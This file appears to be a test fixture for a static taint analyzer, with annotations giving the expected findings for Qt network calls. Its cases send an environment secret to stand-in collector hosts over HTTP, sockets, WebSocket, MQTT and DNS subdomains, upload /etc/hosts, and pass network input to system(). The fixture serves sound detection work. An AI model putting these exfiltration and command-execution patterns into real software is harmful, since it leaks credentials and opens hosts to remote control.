// Qt Network.
#include <QtNetwork>

void url(QNetworkAccessManager *m) {
    QNetworkRequest r(QUrl(getenv("T"))); //~ source(ENVIRONMENT) f1
    m->get(r); //~ sink(egress.http) f1, finding(traced) f1, capability(NETWORK)
}

void url_set(QNetworkAccessManager *m) {
    QNetworkRequest r;
    r.setUrl(QUrl(getenv("T"))); //~ source(ENVIRONMENT) f2
    m->get(r); //~ sink(egress.http) f2, finding(traced) f2
}

void header(QNetworkAccessManager *m) {
    QNetworkRequest r(QUrl("https://qt.collector.example/u"));
    r.setRawHeader("X-Token", getenv("T")); //~ source(ENVIRONMENT) f3
    m->get(r); //~ sink(egress.http) f3, finding(traced) f3, endpoint("https://qt.collector.example/u")
}

void body(QNetworkAccessManager *m) {
    QNetworkRequest r(QUrl("https://qt.collector.example/u"));
    m->post(r, getenv("T")); //~ source(ENVIRONMENT) f4, sink(egress.http) f4, finding(traced) f4, capability(NETWORK), endpoint("https://qt.collector.example/u")
}

void made_here() {
    auto *m = new QNetworkAccessManager();
    m->post(QNetworkRequest(QUrl("https://qt.collector.example/v")), getenv("T")); //~ source(ENVIRONMENT) f5, sink(egress.http) f5, finding(traced) f5
}

void constants(QNetworkAccessManager *m) {
    QNetworkRequest r(QUrl("https://qt.collector.example/u")); //~ ok
    r.setUrl(QUrl("https://qt.collector.example/v")); //~ ok
    r.setRawHeader("X-Version", "1"); //~ ok
    m->post(r, "x"); //~ ok
}

void reply(QNetworkAccessManager *m, QNetworkReply *reply) {
    system(reply->readAll().data()); //~ source(NETWORK) f7, sink(exec.command) f7, finding(traced) f7, capability(NETWORK)
}

void reply_in_slot(QNetworkAccessManager *m) {
    QNetworkReply *reply = m->get(QNetworkRequest(QUrl("https://qt.collector.example/u")));
    QObject::connect(reply, &QNetworkReply::finished, [reply]() {
        system(reply->readAll().data()); //~ source(NETWORK) f8, sink(exec.command) f8, finding(traced) f8
    });
}

void reply_part(QTcpSocket *s) {
    char b[64];
    s->read(b, 64); //~ source(NETWORK) f9, capability(NETWORK)
    system(b); //~ sink(exec.command) f9, finding(traced) f9
}

void reply_states(QTcpSocket *s, QNetworkReply *reply, QNetworkAccessManager *m) {
    char b[64];
    reply->readAll(); //~ ok
    s->read(b, 64); //~ ok
    QNetworkReply *other = m->get(QNetworkRequest());
    system(other->errorString()); //~ ok
}

void multipart(QNetworkAccessManager *m) {
    QHttpMultiPart *parts = new QHttpMultiPart();
    QHttpPart part;
    part.setBody(getenv("T")); //~ source(ENVIRONMENT) f11
    parts->append(part);
    m->post(QNetworkRequest(QUrl("https://qt.collector.example/u")), parts); //~ sink(egress.http) f11, finding(traced) f11
}

void multipart_file(QNetworkAccessManager *m) {
    QHttpMultiPart *parts = new QHttpMultiPart();
    QHttpPart part;
    QFile *f = new QFile("/etc/hosts");
    f->open(QIODevice::ReadOnly); //~ source(FILE) f12
    part.setBodyDevice(f);
    parts->append(part);
    m->post(QNetworkRequest(QUrl("https://qt.collector.example/u")), parts); //~ sink(egress.http) f12, finding(traced) f12
}

void multipart_constant(QNetworkAccessManager *m) {
    QHttpMultiPart *parts = new QHttpMultiPart();
    QHttpPart part;
    part.setBody("x"); //~ ok
    parts->append(part); //~ ok
    m->post(QNetworkRequest(QUrl("https://qt.collector.example/u")), parts); //~ ok
}

void query(QNetworkAccessManager *m) {
    QUrl u("https://qt.collector.example/u");
    QUrlQuery q;
    q.addQueryItem("t", getenv("T")); //~ source(ENVIRONMENT) f14
    u.setQuery(q);
    m->get(QNetworkRequest(u)); //~ sink(egress.http) f14, finding(traced) f14
}

void query_constant(QNetworkAccessManager *m) {
    QUrl u("https://qt.collector.example/u");
    QUrlQuery q;
    q.addQueryItem("v", "1"); //~ ok
    u.setQuery(q); //~ ok
    m->get(QNetworkRequest(u)); //~ ok
}

void socket() {
    QTcpSocket s;
    s.connectToHost("qtcp.collector.example", 443); //~ capability(NETWORK), endpoint("qtcp.collector.example")
    s.write(getenv("T")); //~ source(ENVIRONMENT) f16, sink(egress.socket) f16, finding(traced) f16, capability(NETWORK)
}

void datagram() {
    QUdpSocket s;
    s.writeDatagram(getenv("T"), QHostAddress("198.51.100.7"), 53); //~ source(ENVIRONMENT) f17, sink(egress.socket) f17, finding(traced) f17, capability(NETWORK)
}

void datagram_read(QUdpSocket &s) {
    char b[64];
    s.readDatagram(b, 64); //~ source(NETWORK) f18, capability(NETWORK)
    system(b); //~ sink(exec.command) f18, finding(traced) f18
}

void local(QLocalSocket &s) {
    s.write(getenv("T")); //~ source(ENVIRONMENT) f19, sink(egress.ipc) f19, finding(traced) f19, capability(IPC)
}

void socket_constants(QLocalSocket &l, QUdpSocket &u) {
    char b[64];
    QTcpSocket s;
    s.connectToHost("qtcp.collector.example", 443); //~ ok
    s.write("x"); //~ ok
    l.write("x"); //~ ok
    u.writeDatagram("x", QHostAddress("198.51.100.7"), 53); //~ ok
    u.readDatagram(b, 64); //~ ok
}

void web_socket() {
    QWebSocket w;
    w.open(QUrl("wss://ws.collector.example")); //~ capability(NETWORK), endpoint("wss://ws.collector.example")
    w.sendTextMessage(getenv("T")); //~ source(ENVIRONMENT) f21, sink(egress.message) f21, finding(traced) f21, capability(NETWORK)
}

void web_socket_message(QWebSocket *w) {
    QObject::connect(w, &QWebSocket::textMessageReceived, [](const QString &c) { //~ source(NETWORK) f22
        system(c.toUtf8()); //~ sink(exec.command) f22, finding(traced) f22
    });
}

void web_socket_constants(QWebSocket *w) {
    w->open(QUrl("wss://ws.collector.example")); //~ ok
    w->sendTextMessage("x"); //~ ok
    QObject::connect(w, &QWebSocket::textMessageReceived, [](const QString &c) {}); //~ ok
}

void name() {
    QHostInfo::lookupHost(std::string(getenv("T")) + ".collector.example", nullptr); //~ source(ENVIRONMENT) f24, sink(egress.dns) f24, finding(traced) f24, capability(DNS)
}

void name_asked() {
    QDnsLookup d(QDnsLookup::TXT, std::string(getenv("T")) + ".collector.example"); //~ source(ENVIRONMENT) f25, sink(egress.dns) f25, finding(traced) f25, capability(DNS)
}

void name_set(QDnsLookup &d) {
    d.setName(std::string(getenv("T")) + ".collector.example"); //~ source(ENVIRONMENT) f26, sink(egress.dns) f26, finding(traced) f26, capability(DNS)
}

void name_constants(QDnsLookup &given) {
    QHostInfo::lookupHost("collector.example", nullptr); //~ ok
    QDnsLookup d(QDnsLookup::TXT, "collector.example"); //~ ok
    d.setName("collector.example"); //~ ok
}

void browser() {
    QDesktopServices::openUrl(QUrl(getenv("T"))); //~ source(ENVIRONMENT) f28, sink(egress.http) f28, finding(traced) f28, capability(NETWORK)
    QDesktopServices::openUrl(QUrl("https://collector.example")); //~ ok
}

void folder() {
    QUrl place = QUrl::fromLocalFile(getenv("T"));
    QDesktopServices::openUrl(place); //~ ok
    QDesktopServices::openUrl(QUrl::fromLocalFile(getenv("T"))); //~ ok
}

void local(QTcpSocket *s) {
    QUrl place = QUrl::fromLocalFile(getenv("T")); //~ source(ENVIRONMENT) f60
    s->write(place.toEncoded()); //~ sink(egress.socket) f60, finding(traced) f60
    s->write(QUrl::fromLocalFile("x").toEncoded()); //~ ok
}

void broker(QMqttClient *c) {
    c->publish(QString("t"), getenv("T")); //~ source(ENVIRONMENT) f29, sink(egress.message) f29, finding(traced) f29, capability(NETWORK)
    c->publish(QString("t"), "x"); //~ ok
}

void bus(QDBusInterface &i) {
    i.call("put", getenv("T")); //~ source(ENVIRONMENT) f30, sink(egress.ipc) f30, finding(traced) f30, capability(IPC)
    i.call("put", "x"); //~ ok
}
